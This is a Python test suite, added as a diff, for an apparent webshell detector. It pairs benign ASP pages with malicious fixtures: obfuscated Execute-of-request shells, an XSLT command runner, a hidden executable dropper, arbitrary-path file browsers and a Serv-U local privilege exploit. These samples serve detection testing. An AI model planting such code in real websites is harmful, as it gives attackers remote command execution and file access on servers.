@@ -1,0 +1,238 @@
+"""Page-level ASP and ASP.NET shapes (asp_shapes and the reader's decoding): each with a sample written
+here, and a benign look-alike that must stay below the threshold."""
+
+import base64
+
+from agent.imagegate import webshell
+from agent.imagegate.webshell import THRESHOLD, asp_vbe
+from agent.imagegate.webshell.common import Budget, Limits
+
+
+def scan(text, name):
+    return webshell.scan(name, text.encode("utf-8") if isinstance(text, str) else text)
+
+
+def shell(text, name="x.asp"):
+    hits = scan(text, name)
+    assert hits and hits[0].confidence >= THRESHOLD, hits
+    assert hits[0].snippet and len(hits[0].snippet) <= 240
+    return hits[0]
+
+
+def benign(text, name="x.asp"):
+    hits = scan(text, name)
+    assert not webshell.is_shell(hits), hits
+
+
+# --- Script Encoder over a double-byte code page -----------------------------------------------
+
+def _encode_dbcs(raw: bytes) -> bytes:
+    """The Script Encoder as it treats a GBK page: a lead byte and its trail byte copied, uncounted."""
+    out = bytearray()
+    index = 0
+    i = 0
+    while i < len(raw):
+        c = raw[i]
+        if 0x80 < c < 0xFF and i + 1 < len(raw):
+            out += raw[i:i + 2]
+            i += 2
+            continue
+        col = asp_vbe._COLS[int(asp_vbe._PICK[index % 64])]
+        out.append(col.index(c, 9) if chr(c) not in "<>@\r\n" else c)
+        index += 1
+        i += 1
+    return bytes(out)
+
+
+def test_encoded_page_with_gbk_text_decodes_past_the_text():
+    # "\xb2\x40" is a GBK character whose trail byte is '@' in ASCII: read one byte a character, the
+    # rest of the block would decode to noise and the Execute after it would be lost
+    plain = 'x = "\xb2\x40\xd6\xd0" : Execute Request("z")'.encode("latin-1")
+    page = b"<%@ LANGUAGE = VBScript.Encode %><%#@~^AAAAAA==" + _encode_dbcs(plain) + b"AAAAAA==^#~@%>"
+    assert asp_vbe.decode_all(page.decode("latin-1"), Budget(Limits())).count("Execute Request") == 1
+    h = shell(page)
+    assert h.rule == "asp.request-to-eval"
+
+
+def test_encoded_page_in_a_single_byte_code_page_still_decodes():
+    plain = 'x = "\xe7a\xfcb" : Execute Request("z")'.encode("latin-1")  # windows-1254 letters
+    enc = bytearray()
+    index = 0
+    for c in plain:
+        if c >= 0x80:
+            enc.append(c)  # copied, and not counted
+            continue
+        enc.append(asp_vbe._COLS[int(asp_vbe._PICK[index % 64])].index(c, 9))
+        index += 1
+    h = shell(b"<%@ LANGUAGE = VBScript.Encode %><%#@~^AAAAAA==" + bytes(enc) + b"AAAAAA==^#~@%>")
+    assert h.rule == "asp.request-to-eval"
+
+
+# --- Execute of code pieced together from constants --------------------------------------------
+
+def test_execute_of_replaced_split_and_unescaped_constant():
+    h = shell('<%\na="ex@@ec@@ute%20req@@uest%28%22k%22%29"\nb=replace(a,"@@","|")\nc=split(b,"|")\n'
+              'for i=0 to ubound(c)\nt=t+c(i)\nnext\nexecute(unescape(t))\n%>')
+    assert h.rule == "asp.dynamic-eval" and h.confidence >= 0.8
+
+
+def test_execute_through_a_home_made_replace_decoder():
+    h = shell('<%\nFunction Dec(s)\ns = Replace(s, "#q", "s")\ns = Replace(s, "h4", "(")\ns = Replace(s, "w4", ")")\n'
+              'Dec = s\nEnd Function\nc = "x = reque#qth4""data""w4"\nexecute(Dec(c))\n%>')
+    assert h.confidence >= 0.8
+
+
+def test_benign_execute_of_constant_settings():
+    benign('<%\nFunction Dec(s)\nDec = Replace(s, "#", "=")\nEnd Function\nc = "title # ""Home"""\n'
+           'execute(Dec(c))\n%>')
+
+
+# --- JScript.NET --------------------------------------------------------------------------------
+
+def test_jscript_eval_in_unsafe_mode_inside_a_helper():
+    h = shell('<script runat="server" language="JScript">\nfunction run(str) {\nvar a = "un" + "safe";\n'
+              'return eval(str, a);\n}\n</script>', "x.aspx")
+    assert h.rule == "aspx.dynamic-eval" and h.confidence >= 0.75
+
+
+def test_jscript_eval_of_a_helper_parameter_without_unsafe_stays_below():
+    benign('<script runat="server" language="JScript">\nfunction run(str) {\nreturn eval(str);\n}\n</script>',
+           "x.aspx")
+
+
+def test_jscript_net_web_method_parameter_is_request_data():
+    h = shell('<%@ WebService Language="JScript" class="S"%>import System.Web.Services;\n'
+              'public class S extends WebService { WebMethodAttribute function Run(p : String) : String {'
+              ' return eval(p); } }', "x.asmx")
+    assert h.rule == "aspx.request-to-eval" and h.source == "web method parameter"
+
+
+def test_base64_constant_holding_request_code():
+    lit = base64.b64encode(b'Request.Item["z"]').decode()
+    h = shell(f'<%\nrun(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String("{lit}")));\n%>',
+              "x.aspx")
+    assert h.rule == "aspx.encoded-request-code"
+
+
+def test_base64_constant_of_plain_data_is_not_code():
+    lit = base64.b64encode(b"a logo, a banner and the footer text of the site").decode()
+    benign(f'<%\nvar logo = System.Convert.FromBase64String("{lit}");\nResponse.BinaryWrite(logo);\n%>', "x.aspx")
+
+
+# --- C# in a page saved under a classic ASP name ---------------------------------------------
+
+def test_csharp_page_with_an_asp_name_writes_form_text_to_a_form_path():
+    h = shell('<%@ Page Language="C#" %><script runat="server">\nvoid Save(object s, EventArgs e) {\n'
+              'var w = new System.IO.StreamWriter(this.txtPath.Text, true);\nw.Write(this.txtBody.Text);\n'
+              'w.Close();\n}\n</script><form runat="server"><asp:TextBox id="txtPath" runat="server"/>'
+              '<asp:TextBox id="txtBody" runat="server"/></form>')
+    assert h.rule == "asp.request-to-file-write"
+
+
+# --- a command in an XSLT stylesheet's script ----------------------------------------------------
+
+def test_xslt_script_starting_a_shell():
+    h = shell('<%\nset x = Server.CreateObject("MSXML2.DOMDocument")\nx.loadxml("<r>cmd /c ver</r>")\n'
+              'set s = Server.CreateObject("MSXML2.DOMDocument")\n'
+              's.loadxml("<xsl:stylesheet xmlns:msxsl=""urn:schemas-microsoft-com:xslt""><msxsl:script '
+              'language=""JScript"" implements-prefix=""u""> function run(c) { var a = new ActiveXObject('
+              '\'wscript.shell\'); return a.Exec(c).StdOut.ReadAll(); }</msxsl:script></xsl:stylesheet>")\n'
+              'response.write x.TransformNode(s)\n%>')
+    assert h.rule.endswith("-exec") and "XSLT" in h.detail
+
+
+def test_xslt_without_script_is_a_transform():
+    benign('<%\nset x = Server.CreateObject("MSXML2.DOMDocument")\nx.load(Server.MapPath("feed.xml"))\n'
+           'set s = Server.CreateObject("MSXML2.DOMDocument")\ns.load(Server.MapPath("feed.xsl"))\n'
+           'response.write x.TransformNode(s)\n%>')
+
+
+# --- an executable carried in the page ------------------------------------------------------------
+
+def test_page_dropping_an_embedded_executable():
+    pe = "MZ" + "&Chr(144)&Chr(0)" + "&\"" + "This program cannot be run in DOS mode." + "x" * 80 + "\""
+    h = shell('<%\nSub Drop()\nSet f = CreateObject("Scripting.FileSystemObject")\n'
+              f'b = "{pe[:2]}"{pe[2:]}\n'
+              'Set o = f.CreateTextFile(f.GetSpecialFolder(2) & "\\svc.exe", 2, 0)\no.Write b\no.Close\n'
+              'CreateObject("WScript.Shell").Run f.GetSpecialFolder(2) & "\\svc.exe", 0, false\nEnd Sub\nDrop\n%>')
+    assert h.rule == "asp.drops-executable"
+
+
+def test_page_writing_a_text_report_is_not_a_dropper():
+    benign('<%\nSet f = CreateObject("Scripting.FileSystemObject")\n'
+           'Set o = f.CreateTextFile(Server.MapPath("report.txt"), True)\n'
+           'o.Write "This report cannot be run, it lists the visits."\no.Close\n%>')
+
+
+# --- file browser over raw request paths -----------------------------------------------------------
+
+def test_vbscript_browser_lists_and_reads_any_path():
+    h = shell('<%\np = request("p")\nIf p = "" Then p = "c:\\"\nSet fs = CreateObject("Scripting.FileSystemObject")\n'
+              'Set d = fs.GetFolder(p)\nFor Each x In d.Files\nResponse.Write x.Name\nNext\n'
+              'If request("f") <> "" Then\nSet t = fs.OpenTextFile(request("f"), 1)\nResponse.Write t.ReadAll\n'
+              'End If\n%>')
+    assert h.rule == "asp.file-browser"
+
+
+def test_csharp_browser_lists_and_downloads_any_path():
+    h = shell('<%@ Page Language="C#" %><script runat="server">\nvoid Page_Load(object s, EventArgs e) {\n'
+              'string dir = Request.Params["d"];\nvar di = new System.IO.DirectoryInfo(dir);\n'
+              'foreach (var f in di.GetFiles()) Response.Write(f.Name);\n'
+              'string file = Request.Params["f"];\nif (file != null) Response.WriteFile(file);\n}\n</script>',
+              "x.aspx")
+    assert h.rule == "aspx.file-browser"
+
+
+def test_admin_page_reading_and_deleting_a_named_file_is_not_a_browser():
+    # (a forum's database setup page: it reads and deletes the script the form names)
+    benign('<%\nSet fs = CreateObject("Scripting.FileSystemObject")\n'
+           'Set t = fs.OpenTextFile(Request.Form("dbMod"), 1, False)\nsql = t.ReadAll\n'
+           'If request("del") = "1" Then fs.DeleteFile(Request.Form("dbMod"))\n%>')
+
+
+def test_listing_under_the_site_root_is_not_a_browser():
+    benign('<%\nSet fs = CreateObject("Scripting.FileSystemObject")\n'
+           'Set d = fs.GetFolder(Server.MapPath("/gallery/" & request("album")))\n'
+           'For Each x In d.Files\nResponse.Write x.Name\nNext\n'
+           'Set t = fs.OpenTextFile(Server.MapPath("/gallery/" & request("album") & "/notes.txt"), 1)\n'
+           'Response.Write t.ReadAll\n%>')
+
+
+# --- a page that writes request data into itself ---------------------------------------------------
+
+def test_page_appending_request_text_to_itself():
+    h = shell('<%\nme = Request.ServerVariables("SCRIPT_NAME")\nmsg = request.form("what")\n'
+              'if msg <> "" then\nSet fs = Server.CreateObject("Scripting.FileSystemObject")\n'
+              'Set f = fs.OpenTextFile(Server.MapPath(me), 8, False)\nf.Writeline msg\nf.Close\nend if\n%>')
+    assert h.rule == "asp.writes-itself"
+
+
+def test_guestbook_appending_to_its_data_file():
+    benign('<%\nmsg = request.form("what")\nif msg <> "" then\n'
+           'Set fs = Server.CreateObject("Scripting.FileSystemObject")\n'
+           'Set f = fs.OpenTextFile(Server.MapPath("guestbook.txt"), 8, True)\nf.Writeline msg\nf.Close\n'
+           'end if\n%>')
+
+
+# --- known tools -------------------------------------------------------------------------------------
+
+def test_serv_u_local_admin_exploit():
+    h = shell('<%\nc = request("c")\nset a = Server.CreateObject("Microsoft.XMLHTTP")\n'
+              'a.open "GET", "http://127.0.0.1:43958/", True\n'
+              'a.send "User admin" & vbCrLf & "SITE MAINTENANCE" & vbCrLf & "-SETUSERSETUP" & vbCrLf\n'
+              'set b = Server.CreateObject("Microsoft.XMLHTTP")\nb.open "GET", "http://127.0.0.1:21/", True\n'
+              'b.send "site exec " & c & vbCrLf\n%>')
+    assert h.rule == "asp.serv-u-exploit"
+
+
+def test_registry_sweep_of_every_hive():
+    h = shell('<%@ Page Language="C#" %><%\nvar s = new System.Collections.Stack();\n'
+              's.Push(Microsoft.Win32.Registry.ClassesRoot);\ns.Push(Microsoft.Win32.Registry.CurrentUser);\n'
+              's.Push(Microsoft.Win32.Registry.LocalMachine);\ns.Push(Microsoft.Win32.Registry.Users);\n'
+              'while (s.Count > 0) { var k = (Microsoft.Win32.RegistryKey)s.Pop(); }\n%>', "x.aspx")
+    assert h.rule == "aspx.registry-sweep"
+
+
+def test_reading_one_registry_value_is_configuration():
+    benign('<%@ Page Language="C#" %><%\nvar k = Microsoft.Win32.Registry.LocalMachine.OpenSubKey('
+           '"SOFTWARE\\\\Shop");\nvar v = k.GetValue("Version");\n%>', "x.aspx")
